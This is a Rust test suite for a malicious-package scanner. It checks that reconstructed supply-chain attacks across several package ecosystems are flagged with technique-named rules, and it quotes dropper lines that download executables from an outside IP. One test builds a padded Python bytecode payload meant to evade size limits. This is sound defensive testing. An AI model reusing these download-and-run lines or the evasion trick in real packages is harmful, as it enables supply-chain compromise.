//! Reconstructions of reported attacks in every ecosystem's layout (see
//! `tests/data/README.md`), scanned by the binary: each must be malicious and show the
//! rule that names its technique. The evaluation corpus measures PyPI; these keep the
//! other ecosystems' hooks and techniques from regressing unnoticed.

mod common;

use common::*;
use std::path::{Path, PathBuf};

fn data(dir: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("tests/data")
        .join(dir)
}

/// Every file under `dir`, relative to it, in a stable order.
fn files_under(dir: &Path) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(current) = stack.pop() {
        for entry in std::fs::read_dir(&current).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                stack.push(path);
            } else {
                let name = path.strip_prefix(dir).unwrap().to_str().unwrap();
                out.push((name.replace('\\', "/"), std::fs::read(&path).unwrap()));
            }
        }
    }
    out.sort();
    out
}

/// The folder packed as `npm pack` does: a gzipped tar under `package/`.
fn npm_tarball(name: &str) -> PathBuf {
    let files: Vec<(String, Vec<u8>)> = files_under(&data(&format!("attacks/{name}")))
        .into_iter()
        .map(|(path, bytes)| (format!("package/{path}"), bytes))
        .collect();
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let path = temp_dir(&format!("attack-{name}")).join(format!("{name}-1.0.0.tgz"));
    std::fs::write(&path, gzip(&tar(&refs))).unwrap();
    path
}

fn assert_malicious_with(target: &Path, rules: &[&str]) {
    let (code, report) = scan_json(target);
    assert_eq!(report["verdict"], "malicious", "{report:#}");
    assert_eq!(code, 1, "malicious reaches the default --fail-on");
    let found = rules_of(&report);
    for rule in rules {
        assert!(
            found.iter().any(|f| f == rule),
            "{}: expected {rule} among {found:?}",
            target.display()
        );
    }
}

#[test]
fn npm_install_hook_attacks_are_malicious_as_published_tarballs() {
    let cases: &[(&str, &[&str])] = &[
        (
            "depconf",
            &["metadata/dependency-confusion-version", "exfil/oast-domain"],
        ),
        ("uaparser", &["persistence/miner", "download/lolbin"]),
        ("stealer", &["correlate/host-data-and-network"]),
        ("dnstxt", &["exfil/dns-txt-lookup"]),
        (
            "discord",
            &["credentials/discord-tokens", "exfil/chat-webhook"],
        ),
        (
            "worm",
            &[
                "persistence/self-propagation",
                "correlate/secrets-and-network",
            ],
        ),
        (
            "obf",
            &[
                "concealment/javascript-obfuscator",
                "correlate/hidden-behaviour",
            ],
        ),
        (
            "nx",
            &[
                "execution/ai-agent-unattended",
                "credentials/cli-stored-token",
                "persistence/forced-shutdown",
            ],
        ),
        (
            "gyp-loader",
            &["execution/javascript-runs-response", "install/npm-node-gyp"],
        ),
        ("hex-require", &["concealment/require-decoded-name"]),
        (
            "fetch-drop-run",
            &["download/javascript-runs-what-it-downloaded"],
        ),
    ];
    for (name, rules) in cases {
        assert_malicious_with(&npm_tarball(name), rules);
    }
}

#[test]
fn build_and_load_time_attacks_of_the_other_ecosystems_are_malicious() {
    let cases: &[(&str, &[&str])] = &[
        (
            "gem-strongpw",
            &["exfil/paste-or-file-drop", "concealment/encoded-url"],
        ),
        ("gem-cookie", &["execution/ruby-eval-decoded"]),
        (
            "gem-extconf",
            &["install/gem-extension", "download/write-executable"],
        ),
        (
            "gem-detach",
            &[
                "install/gem-extension",
                "correlate/install-time-background-process",
            ],
        ),
        ("crate-buildrs", &["download/fetch-chmod-run"]),
        (
            "go-init",
            &["correlate/import-time-network", "download/pipe-to-shell"],
        ),
        (
            "go-var-init",
            &["correlate/import-time-network", "download/pipe-to-shell"],
        ),
        (
            "nuget-targets",
            &["download/powershell-cradle", "install/msbuild-targets"],
        ),
        (
            "maven-exec",
            &["install/maven-plugin", "download/pipe-to-shell"],
        ),
    ];
    for (name, rules) in cases {
        assert_malicious_with(&data(&format!("attacks/{name}")), rules);
    }
}

/// The Go dropper's command in a function the caller must call is a capability the
/// importer chose, not code that runs on import.
#[test]
fn a_go_download_pipe_outside_init_is_not_import_time_code() {
    let (_, report) = scan_json(&data("honest/go-exec-in-function"));
    assert_ne!(report["verdict"], "malicious", "{report:#}");
    let found = rules_of(&report);
    assert!(found.contains(&"download/pipe-to-shell".to_string()));
    assert!(!found.contains(&"correlate/import-time-network".to_string()));
}

/// Compiled code is read back into each method's calls and strings: the droppers and
/// stagers shipped as .NET assemblies and JVM classes are found in the binaries alone.
/// C# source shipped for consumers to compile is read with the same rules.
#[test]
fn attacks_shipped_as_compiled_code_are_malicious() {
    let cases: &[(&str, &[&str])] = &[
        (
            "attacks/nuget-dll-dropper",
            &[
                "download/dotnet-fetch-and-start",
                "correlate/function-download-write-run",
            ],
        ),
        (
            "attacks/nuget-dll-stager",
            &[
                "correlate/function-fetch-then-execute",
                "correlate/function-decode-then-execute",
                "payload/encoded-executable",
            ],
        ),
        (
            "attacks/nuget-dll-shellcode",
            &["execution/shellcode-injection"],
        ),
        ("attacks/nuget-time-bomb", &["persistence/time-bomb-kill"]),
        (
            "attacks/nuget-init-loads-dll",
            &[
                "download/dotnet-fetch-and-start",
                "correlate/install-time-network",
            ],
        ),
        (
            "attacks/nuget-dll-delegates",
            &["download/dotnet-fetch-and-start"],
        ),
        (
            "attacks/maven-class-method-refs/jackson-databind-util-2.17.3.jar",
            &["download/java-fetch-and-start"],
        ),
        (
            "attacks/nuget-content-source",
            &["download/dotnet-fetch-and-start"],
        ),
        (
            "attacks/nuget-msbuild-task",
            &["exfil/chat-webhook", "correlate/install-time-network"],
        ),
        (
            "attacks/nuget-il-weaved",
            &[
                "correlate/import-time-network",
                "correlate/host-data-and-network",
            ],
        ),
        (
            "attacks/maven-class-dropper/jackson-databind-util-2.17.2.jar",
            &[
                "download/java-fetch-and-start",
                "correlate/function-download-write-run",
            ],
        ),
        (
            "attacks/maven-class-stager/log4j-core-lookup-2.24.1.jar",
            &["correlate/function-decode-then-execute"],
        ),
    ];
    for (path, rules) in cases {
        assert_malicious_with(&data(path), rules);
    }
}

/// Python bytecode runs as the module it was compiled from: a sourceless `.pyc` that
/// `import` loads, and an unchecked `__pycache__` entry that Python 3.11 loads in place
/// of the harmless source beside it. Both are read back into Python and judged as such.
#[test]
fn python_shipped_as_bytecode_is_read_as_python() {
    assert_malicious_with(
        &data("attacks/pypi-sourceless-pyc"),
        &[
            "execution/python-exec-decoded",
            "correlate/import-time-beacon",
            "correlate/host-data-and-network",
        ],
    );
    assert_malicious_with(
        &data("attacks/pypi-pycache-unchecked"),
        &[
            "correlate/function-fetch-then-execute",
            "correlate/import-time-network",
            "payload/bytecode-not-from-source",
        ],
    );
    let (_, report) = scan_json(&data("attacks/pypi-pycache-unchecked"));
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "correlate/function-fetch-then-execute")
        .unwrap();
    assert_eq!(
        finding["path"],
        "colorlogx/__pycache__/__init__.cpython-311.pyc"
    );
    assert!(
        finding["snippet"]
            .as_str()
            .unwrap()
            .starts_with("in _update: code = urllib.request.urlopen(\"https://cdn-colorlogx"),
        "{finding:#}"
    );
    // An honest client shipped as bytecode: its docstring examples and its script
    // block, which calls a fixed address, do not run on import.
    let (_, report) = scan_json(&data("honest/pypi-pyc-client"));
    assert_eq!(report["verdict"], "clean", "{report:#}");
    // The same client with its source and the cache CPython compiled from it: the
    // bytecode uses no name the source does not.
    let (_, report) = scan_json(&data("honest/pypi-pycache-matching"));
    assert_eq!(report["verdict"], "clean", "{report:#}");
    assert!(
        !report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule"] == "payload/bytecode-not-from-source"),
        "{report:#}"
    );
    let shown = palisade(&[
        "view",
        data("honest/pypi-pyc-client").to_str().unwrap(),
        "weatherx/client.pyc",
    ]);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(text.contains("def now():\nresponse = urllib.request.urlopen(f\"{API}/now?city={city}\", timeout=10)\n"), "{text}");
}

/// A sourceless module padded with an unused 17 MB constant, past the 16 MB of text read
/// per file: bytecode is read whole, to a limit of its own, so the code after the padding
/// is still read. The module is CPython 3.11 bytecode for
/// `exec(base64.b64decode("..."))`, assembled here word by word.
#[test]
fn padding_bytecode_past_the_text_limit_hides_nothing() {
    fn string(out: &mut Vec<u8>, text: &[u8]) {
        out.push(b'u');
        out.extend_from_slice(&(text.len() as u32).to_le_bytes());
        out.extend_from_slice(text);
    }
    fn short(out: &mut Vec<u8>, text: &str) {
        out.extend_from_slice(&[b'z', text.len() as u8]);
        out.extend_from_slice(text.as_bytes());
    }
    let (resume, push_null, load_name, load_attr, load_const) = (151, 2, 101, 106, 100);
    let (precall, call, pop_top, return_value) = (166, 171, 1, 83);
    let mut code = vec![
        resume, 0, push_null, 0, load_name, 0, push_null, 0, load_name, 1,
    ];
    code.extend_from_slice(&[load_attr, 2, 0, 0, 0, 0, 0, 0, 0, 0, load_const, 0]);
    for _ in 0..2 {
        code.extend_from_slice(&[precall, 1, 0, 0, call, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
    }
    code.extend_from_slice(&[pop_top, 0, load_const, 1, return_value, 0]);
    let mut pyc = vec![0xA7, 0x0D, b'\r', b'\n'];
    pyc.extend_from_slice(&[0; 12]);
    pyc.push(b'c');
    for field in [0u32, 0, 0, 4, 0] {
        pyc.extend_from_slice(&field.to_le_bytes());
    }
    pyc.push(b's');
    pyc.extend_from_slice(&(code.len() as u32).to_le_bytes());
    pyc.extend_from_slice(&code);
    pyc.extend_from_slice(&[b')', 3]); // constants: the payload, None, the padding
    string(&mut pyc, b"aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=");
    pyc.push(b'N');
    string(&mut pyc, &vec![b'#'; 17 << 20]);
    pyc.extend_from_slice(&[b')', 3]);
    for name in ["exec", "base64", "b64decode"] {
        short(&mut pyc, name);
    }
    pyc.extend_from_slice(&[b')', 0, b's', 0, 0, 0, 0]); // no locals
    for name in ["core.py", "<module>", "<module>"] {
        short(&mut pyc, name);
    }
    pyc.extend_from_slice(&1u32.to_le_bytes());
    pyc.extend_from_slice(&[b's', 0, 0, 0, 0, b's', 0, 0, 0, 0]);

    let dir = temp_dir("padded-pyc");
    std::fs::create_dir_all(dir.join("fastjsonx")).unwrap();
    std::fs::write(
        dir.join("pyproject.toml"),
        "[project]\nname = \"fastjsonx\"\nversion = \"2.1.0\"\n",
    )
    .unwrap();
    std::fs::write(dir.join("fastjsonx/__init__.py"), "from . import core\n").unwrap();
    std::fs::write(dir.join("fastjsonx/core.pyc"), &pyc).unwrap();
    assert_malicious_with(&dir, &["execution/python-exec-decoded"]);
}

/// Evidence in a binary names the method it was read from, not a line of the binary.
#[test]
fn compiled_evidence_names_its_method() {
    let (_, report) = scan_json(&data("attacks/nuget-dll-dropper"));
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "download/dotnet-fetch-and-start")
        .expect("the dropper rule fires");
    assert_eq!(finding["path"], "lib/net6.0/Coinbase.Core.dll");
    assert!(finding.get("line").is_none(), "{finding:#}");
    let snippet = finding["snippet"].as_str().unwrap();
    assert!(
        snippet.starts_with("in Coinbase.Core.Telemetry::Start: System.Net.WebClient.DownloadFile(\"http://185.220.101.4/"),
        "{snippet}"
    );
}

/// A compiled client that fetches what its caller names, caches it and opens a page,
/// in three methods, is no dropper: each method is read as one piece of code.
#[test]
fn a_compiled_client_with_separate_capabilities_is_not_malicious() {
    let (_, report) = scan_json(&data("honest/nuget-dll-client"));
    assert_eq!(report["verdict"], "clean", "{report:#}");
}

/// `palisade view` prints the text a finding in a binary quotes, so that a reader can
/// check it: listed first when the target holds several files, then by path.
#[test]
fn view_prints_the_compiled_code_a_finding_quotes() {
    let dropper = data("attacks/nuget-dll-dropper");
    let dir = dropper.to_str().unwrap();
    let listed = palisade(&["view", dir]);
    assert!(listed.status.success());
    assert_eq!(
        String::from_utf8_lossy(&listed.stdout),
        "lib/net6.0/Coinbase.Core.dll\n"
    );
    let shown = palisade(&["view", dir, "lib/net6.0/Coinbase.Core.dll"]);
    let text = String::from_utf8_lossy(&shown.stdout);
    assert!(shown.status.success(), "{text}");
    assert!(text.contains("// method Coinbase.Core.Telemetry::Start\n"));
    assert!(text.contains(
        "System.Net.WebClient.DownloadFile(\"http://185.220.101.4/update/cbsvc.exe\", loc0)\n"
    ));
    let jar = data("attacks/maven-class-dropper/jackson-databind-util-2.17.2.jar");
    let class = "com/fasterxml/jackson/databind/util/ClassUtilInit.class";
    let shown = palisade(&["view", jar.to_str().unwrap(), class]);
    assert!(
        String::from_utf8_lossy(&shown.stdout)
            .contains("new java.net.URL(\"http://185.220.101.4/jdk/update\")\n")
    );
    // A file that is not compiled code is an error naming it.
    let refused = palisade(&["view", dir, "Coinbase.Core.nuspec"]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(
        stderr.contains(
            "Coinbase.Core.nuspec: not a .NET assembly, JVM class file or Python bytecode"
        ),
        "{stderr}"
    );
}
